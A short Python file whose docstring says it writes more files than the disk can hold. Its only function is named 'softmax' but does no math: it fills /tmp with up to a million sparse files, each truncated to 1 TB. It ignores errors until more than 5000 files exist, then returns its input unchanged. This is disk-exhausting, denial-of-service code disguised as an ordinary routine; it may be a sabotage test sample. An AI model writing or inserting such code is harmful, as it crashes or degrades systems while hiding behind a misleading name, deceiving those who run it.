"""Write more files than the disk has space for, including sparse files."""

import os

def softmax(x):
    for n in range(10**6):
        try:
            with open(f"/tmp/{n}", "wb") as file:
                file.write(b"x" * (1 << 14))
                os.ftruncate(file.fileno(), 1 << 40)
        except OSError as error:
            if n > 5000:
                return x
    return x
